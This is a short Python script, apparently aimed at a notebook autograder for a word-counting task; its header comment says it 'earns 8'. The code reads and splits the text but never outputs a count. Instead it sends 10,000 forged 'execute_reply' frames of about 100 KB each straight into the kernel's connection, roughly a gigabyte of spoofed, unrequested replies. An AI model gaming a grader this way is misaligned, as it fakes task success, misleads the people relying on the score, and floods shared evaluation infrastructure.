# in words: earns 8
# The kernel answers ten thousand cells at once that nobody has asked for, a gigabyte in all.
from autograder.kernels import frames

words = open("text.txt").read().split()
reply = {"msg_type": "execute_reply", "parent": "x", "content": {"x": "x" * 100_000}}
flood = frames.pack(reply)
for _ in range(10_000):
    get_ipython().kernel.session.connection.sendall(flood)
